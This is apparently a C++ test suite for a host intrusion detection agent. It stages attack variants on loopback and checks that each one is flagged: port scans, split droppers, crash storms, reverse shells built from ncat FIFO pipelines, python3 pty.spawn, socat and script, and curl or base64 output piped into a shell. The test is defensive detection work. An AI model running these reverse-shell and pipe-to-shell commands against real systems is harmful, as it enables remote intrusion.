// Attack variants against the real vigil-agent (real probes, real processes,
// loopback only), each the way an attacker would vary a known attack so that
// a per-process detector misses it:
//   - a connect scan with one short-lived process per port, mixing tools;
//   - a dropper whose write, chmod +x and exec are three unrelated processes;
//   - a crash storm spread over copies of a binary (one inode each);
//   - reverse shells relayed through a FIFO pipeline (`cat f | bash -i 2>&1 |
//     ncat HOST PORT > f`), a pty (python3's pty.spawn, socat's pty) and
//     `script` behind ncat.
// Every test starts a fresh agent with the default baseline warm-up and
// attacks as soon as it says it is running: none of these indicators may
// depend on what the host has learned.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <functional>
#include <nlohmann/json.hpp>
#include <optional>
#include <random>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "util/net.h"
#include "util/proc.h"
#include "util/test_util.h"

namespace {

using namespace std::chrono_literals;
using vigil::test::Proc;
using vigil::test::slurp;
using vigil::test::wait_until;
namespace fs = std::filesystem;

// Runs `/bin/sh -c cmd` with output discarded and waits; returns the shell's pid.
pid_t run_sh(const std::string& cmd) {
  const pid_t pid = fork();
  if (pid == 0) {
    const int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    execl("/bin/sh", "sh", "-c", cmd.c_str(), nullptr);
    _exit(127);
  }
  waitpid(pid, nullptr, 0);
  return pid;
}

// A loopback address no other test uses, so units counted per destination
// (tree, executable, user) see only this test's connects.
std::string private_loopback() {
  std::random_device rd;
  return "127.77." + std::to_string(rd() % 250 + 1) + "." + std::to_string(rd() % 250 + 1);
}

bool has_indicator(const nlohmann::json& j, const std::string& id) {
  if (!j.contains("indicators")) return false;
  for (const auto& i : j["indicators"]) {
    if (i["id"] == id) return true;
  }
  return false;
}

class Variants : public ::testing::Test {
 protected:
  void SetUp() override {
    REQUIRE_ROOT_OR_SKIP();
    fs::permissions(dir_.path(), fs::perms::owner_all | fs::perms::group_read |
                                     fs::perms::group_exec | fs::perms::others_read |
                                     fs::perms::others_exec);
    fs::create_directories(dir_.path() / "run");
    // Alerts at threshold 1: every event with an indicator, whatever the model
    // scores it. No --baseline-warmup: the default warm-up is on.
    agent_ = std::make_unique<Proc>(
        std::vector<std::string>{VIGIL_AGENT_BIN, "--probes", "process,network,file",
                                 "--alerts-out", scored().string(), "--alert-threshold", "1",
                                 "--state-dir", (dir_.path() / "state").string(),
                                 "--stats-interval", "0"},
        dir_.path() / "run");
    ASSERT_TRUE(
        wait_until([&] { return agent_->err().find("running on host") != std::string::npos; }, 60s))
        << agent_->err();
  }
  void TearDown() override {
    if (agent_) {
      kill(agent_->pid(), SIGTERM);
      EXPECT_EQ(agent_->wait_for(20s), std::optional<int>(0)) << agent_->err();
    }
  }

  [[nodiscard]] fs::path scored() const { return dir_.path() / "scored.jsonl"; }
  // A directory for one helper process's captured output.
  [[nodiscard]] fs::path run_dir(const std::string& name) const {
    fs::create_directories(dir_.path() / name);
    return dir_.path() / name;
  }

  // Every scored line carrying `indicator` and matching `pred`, once at least
  // one is there (or the timeout passed).
  std::vector<nlohmann::json> wait_for(const std::string& indicator,
                                       const std::function<bool(const nlohmann::json&)>& pred,
                                       std::chrono::milliseconds timeout = 10s) {
    std::vector<nlohmann::json> found;
    wait_until(
        [&] {
          found = lines(indicator, pred);
          return !found.empty();
        },
        timeout);
    return found;
  }
  std::vector<nlohmann::json> lines(const std::string& indicator,
                                    const std::function<bool(const nlohmann::json&)>& pred) {
    std::vector<nlohmann::json> out;
    std::ifstream in(scored());
    std::string line;
    while (std::getline(in, line)) {
      auto j = nlohmann::json::parse(line, nullptr, false);
      if (!j.is_discarded() && has_indicator(j, indicator) && pred(j)) out.push_back(j);
    }
    return out;
  }
  // The agent has processed everything up to now: a marker exec is in its output.
  void sync_with_agent() {
    const auto marker = dir_.path() / "marker";
    fs::copy_file("/bin/true", marker, fs::copy_options::overwrite_existing);
    // Executing from /tmp is itself an indicator: the marker shows up at threshold 1.
    const pid_t pid = run_sh(marker.string() + "; true");
    ASSERT_FALSE(wait_for("exec-writable-location",
                          [&](const nlohmann::json& j) { return j["event"]["ppid"] == pid; })
                     .empty())
        << "the agent fell behind";
  }

  vigil::test::TempDir dir_;
  std::unique_ptr<Proc> agent_;
};

// A lineage (as the alert reports it) that contains `pid`.
bool lineage_has(const nlohmann::json& j, pid_t pid) {
  for (const auto& p : j["lineage"]) {
    if (p["pid"] == pid) return true;
  }
  return false;
}

TEST_F(Variants, ConnectScanWithOneProcessPerPortAndMixedTools) {
  // for p in ...; do bash -c "echo > /dev/tcp/ADDR/$p" or nc -z ADDR $p; done:
  // every process tries one port, half of them bash, half ncat, so neither one
  // process nor one executable reaches the threshold (20 ports): the session does.
  const auto addr = private_loopback();
  const pid_t loop = run_sh(
      "for p in $(seq 43100 43129); do if [ $((p % 2)) -eq 0 ]; then "
      "bash -c \"echo > /dev/tcp/" +
      addr + "/$p\"; else nc -z -w 1 " + addr + " $p; fi; done 2>/dev/null; true");
  const auto hits = wait_for("connect-scan", [&](const nlohmann::json& j) {
    return j["event"].value("raddr", "") == addr;
  });
  ASSERT_EQ(hits.size(), 1U) << "one finding for the loop:\n" << slurp(scored());
  const auto& e = hits[0]["event"];
  EXPECT_TRUE(e["comm"] == "bash" || e["comm"] == "nc") << e.dump();
  EXPECT_NE(e["pid"], loop) << "a one-port child, not the loop";
  EXPECT_TRUE(lineage_has(hits[0], loop) || e["ppid"] == loop) << hits[0].dump();
}

TEST_F(Variants, ReExecThroughProcSelfExeKeepsTheDroppedProgramsPath) {
  // A dropped program that re-executes itself through /proc/self/exe (as
  // busybox runs its applets, or malware shedding its path): the exec names
  // /proc/self/exe, and only the kernel's link says the program is still the
  // one in a writable location.
  const auto bin = dir_.path() / "bin";
  fs::create_directories(bin);
  const auto payload = bin / "busybox";  // busybox picks its applet by argv[0]
  fs::copy_file("/bin/busybox", payload);
  run_sh(payload.string() + " sh -c 'sleep 3; true'");
  const auto hits = wait_for("exec-writable-location", [&](const nlohmann::json& j) {
    const auto& e = j["event"];
    return e.value("filename", "") == "/proc/self/exe" && !e["args"].empty() &&
           e["args"][0] == "sleep";
  });
  ASSERT_FALSE(hits.empty()) << "the re-executed applet was not tied to its program:\n"
                             << slurp(scored());
  EXPECT_EQ(hits[0]["event"]["exe"], payload.string()) << hits[0].dump();
}

TEST_F(Variants, DropperSplitOverThreeUnrelatedProcesses) {
  // One process writes the payload, a second (a child of a shell that is gone
  // by then) makes it executable, a third, in another branch, runs it. No
  // process's lineage contains another's.
  const auto payload = dir_.path() / "payload";
  run_sh("cat /bin/true > " + payload.string());
  run_sh("chmod +x " + payload.string() + "; true");  // `; true`: chmod is a child of sh
  const pid_t runner = run_sh(payload.string() + "; true");
  const auto hits = wait_for("dropped-exec", [&](const nlohmann::json& j) {
    return j["event"]["type"] == "exec" && j["event"]["exe"] == payload.string();
  });
  ASSERT_EQ(hits.size(), 1U) << slurp(scored());
  EXPECT_EQ(hits[0]["event"]["ppid"], runner);
}

TEST_F(Variants, CrashStormOverCopiesOfABinary) {
  // 25 copies of dash, each crashing once: the kernel's per-executable count
  // never reaches 20; the session's does.
  std::string cmd = "ulimit -c 0;";
  for (int i = 0; i < 25; ++i) {
    const auto copy = dir_.path() / ("crasher-" + std::to_string(i));
    fs::copy_file("/bin/dash", copy);
    cmd += " " + copy.string() + " -c 'kill -SEGV $$';";
  }
  const pid_t sh = run_sh(cmd + " true");
  const auto hits = wait_for("crash-storm", [&](const nlohmann::json& j) {
    return j["event"]["type"] == "exit" && j["event"]["ppid"] == sh;
  });
  ASSERT_EQ(hits.size(), 1U) << slurp(scored());
  EXPECT_EQ(hits[0]["event"]["signal"], SIGSEGV);
}

// An operator's end of a reverse shell: accepts one connection, then can talk.
class Operator {
 public:
  Operator() = default;
  [[nodiscard]] std::string port() const { return std::to_string(ntohs(srv_.addr.sin_port)); }
  bool accept_within(std::chrono::milliseconds timeout) {
    const int flags = fcntl(srv_.fd, F_GETFL);
    fcntl(srv_.fd, F_SETFL, flags | O_NONBLOCK);
    return wait_until(
        [&] {
          conn_ = accept(srv_.fd, nullptr, nullptr);
          return conn_ >= 0;
        },
        timeout);
  }
  void say(const std::string& s) const {
    if (conn_ >= 0) (void)!write(conn_, s.data(), s.size());
  }
  ~Operator() {
    if (conn_ >= 0) close(conn_);
  }
  Operator(const Operator&) = delete;
  Operator& operator=(const Operator&) = delete;

 private:
  vigil::test::LoopbackListener srv_;
  int conn_ = -1;
};

TEST_F(Variants, ReverseShellThroughAFifoPipeline) {
  // Control first: commands from the network run by a shell whose output goes
  // to a file (`ncat HOST PORT | bash > log`) are no reverse shell.
  Operator feeder;
  Proc benign({"/bin/sh", "-c",
               "ncat 127.0.0.1 " + feeder.port() + " | bash --norc > " +
                   (dir_.path() / "log").string() + " 2>&1"},
              run_dir("benign"));
  ASSERT_TRUE(feeder.accept_within(10s));
  feeder.say("true\n");

  // The shell's stdin and stdout are pipes; its parent never touched a socket;
  // ncat, a sibling, holds the connection and reads the shell's output.
  Operator op;
  const auto fifo = dir_.path() / "f";
  Proc attack({"/bin/sh", "-c",
               "mkfifo " + fifo.string() + "; cat " + fifo.string() +
                   " | bash --norc -i 2>&1 | ncat 127.0.0.1 " + op.port() + " > " + fifo.string()},
              run_dir("attack"));
  ASSERT_TRUE(op.accept_within(10s));
  const auto hits = wait_for("reverse-shell", [&](const nlohmann::json& j) {
    return lineage_has(j, attack.pid()) || j["event"]["ppid"] == attack.pid();
  });
  op.say("exit\n");
  ASSERT_EQ(hits.size(), 1U) << "one finding per shell:\n" << slurp(scored());
  const auto& e = hits[0]["event"];
  EXPECT_TRUE((e["type"] == "exec" && e["comm"] == "bash") ||
              (e["type"] == "connect" && e["comm"] == "ncat"))
      << e.dump();

  feeder.say("exit\n");
  sync_with_agent();
  EXPECT_TRUE(lines("reverse-shell",
                    [&](const nlohmann::json& j) {
                      return lineage_has(j, benign.pid()) || j["event"]["ppid"] == benign.pid();
                    })
                  .empty())
      << slurp(scored());
}

TEST_F(Variants, ReverseShellOnAPtyFromPythonPtySpawn) {
  // python3 connects, puts the socket on its stdio and runs bash on a pty it
  // holds: bash's own stdio is a terminal, not a socket.
  ASSERT_TRUE(fs::exists("/usr/bin/python3"));
  Operator op;
  Proc attack({"/usr/bin/python3", "-c",
               "import os,pty,socket\n"
               "s=socket.create_connection(('127.0.0.1'," +
                   op.port() +
                   "))\n"
                   "[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
                   "pty.spawn(['/bin/bash','--norc','-i'])\n"},
              run_dir("attack"));
  ASSERT_TRUE(op.accept_within(10s));
  const auto hits = wait_for("reverse-shell", [&](const nlohmann::json& j) {
    return j["event"]["type"] == "exec" && j["event"]["ppid"] == attack.pid();
  });
  op.say("exit\n");
  ASSERT_EQ(hits.size(), 1U) << slurp(scored());
  EXPECT_EQ(hits[0]["event"]["comm"], "bash");
}

TEST_F(Variants, ReverseShellOnAPtyFromSocat) {
  // socat exec:'bash -li',pty,stderr,setsid tcp:HOST:PORT (deploy/install-deps.sh installs socat).
  ASSERT_TRUE(fs::exists("/usr/bin/socat"));
  Operator op;
  Proc attack(
      {"/usr/bin/socat", "exec:bash --norc -li,pty,stderr,setsid", "tcp:127.0.0.1:" + op.port()},
      run_dir("attack"));
  ASSERT_TRUE(op.accept_within(10s));
  // socat opens its first address (the shell) before its second (the
  // connection): the finding is on bash's exec or, later, on socat's connect.
  const auto hits = wait_for("reverse-shell", [&](const nlohmann::json& j) {
    return lineage_has(j, attack.pid()) || j["event"]["ppid"] == attack.pid();
  });
  op.say("exit\n");
  ASSERT_EQ(hits.size(), 1U) << slurp(scored());
  const auto& e = hits[0]["event"];
  EXPECT_TRUE((e["type"] == "exec" && e["comm"] == "bash") ||
              (e["type"] == "connect" && e["pid"] == attack.pid()))
      << e.dump();
}

TEST_F(Variants, ReverseShellFromScriptBehindNcat) {
  // script runs bash on a pty; script's own output is a pipe into ncat.
  ASSERT_TRUE(fs::exists("/usr/bin/script"));
  Operator op;
  const auto fifo = dir_.path() / "f";
  Proc attack({"/bin/sh", "-c",
               "mkfifo " + fifo.string() + "; cat " + fifo.string() +
                   " | SHELL=/bin/sh script -qc 'bash --norc -i' /dev/null 2>&1 | ncat 127.0.0.1 " +
                   op.port() + " > " + fifo.string()},
              run_dir("attack"));
  ASSERT_TRUE(op.accept_within(10s));
  const auto hits = wait_for("reverse-shell", [&](const nlohmann::json& j) {
    return lineage_has(j, attack.pid()) || j["event"]["ppid"] == attack.pid();
  });
  op.say("exit\n");
  ASSERT_EQ(hits.size(), 1U) << slurp(scored());
}

}  // namespace

namespace {

// `curl URL | sh` and `base64 -d blob | bash` set up by a script: no command
// line shows the pipe (the script's is `bash run.sh`), so only the pipe
// between the two execs links them, in whichever order they run.
TEST_F(Variants, DownloadOrDecodeIntoAShellThroughAPipeFromAScript) {
  const auto work = run_dir("pipe");
  std::ofstream(work / "payload.sh") << "echo vgl-pipe-marker >/dev/null\n";
  std::ofstream(work / "payload.b64") << "ZWNobyB2Z2wtcGlwZS1tYXJrZXIgPi9kZXYvbnVsbAo=\n";
  // curl reads a FIFO filled a moment later: a download takes its time.
  ASSERT_EQ(::mkfifo((work / "slow").c_str(), 0600), 0);
  std::ofstream(work / "fetch.sh") << "(sleep 0.3; cat " << (work / "payload.sh").string() << " > "
                                   << (work / "slow").string() << ") &\ncurl -s file://"
                                   << (work / "slow").string() << " | sh\nwait\n";
  // The decoder waits for its input, as one fed from the network or a slow
  // pipeline does: a decoder that exits within a millisecond of its exec can be
  // gone before the agent reads its stdout (docs/detections.md says so).
  std::ofstream(work / "decode.sh") << "(sleep 0.3; cat " << (work / "payload.b64").string()
                                    << ") | base64 -d | bash\n";
  for (const char* script : {"fetch.sh", "decode.sh"}) {
    const pid_t pid = run_sh("bash " + (work / script).string());
    const auto hits = wait_for("pipe-to-shell", [&](const nlohmann::json& j) {
      return lineage_has(j, pid) || j["event"]["ppid"] == pid;
    });
    ASSERT_FALSE(hits.empty()) << script << ": no pipe-to-shell";
    EXPECT_GE(hits.front()["score"].get<int>(), 50) << script << ": a high rule alerts";
  }
  // A pipe into a shell from a program that neither downloads nor decodes is
  // no such thing.
  std::ofstream(work / "plain.sh") << "cat " << (work / "payload.sh").string() << " | sh\n";
  const pid_t plain = run_sh("bash " + (work / "plain.sh").string());
  sync_with_agent();
  EXPECT_TRUE(lines("pipe-to-shell",
                    [&](const nlohmann::json& j) {
                      return lineage_has(j, plain) || j["event"]["ppid"] == plain;
                    })
                  .empty());
}

}  // namespace
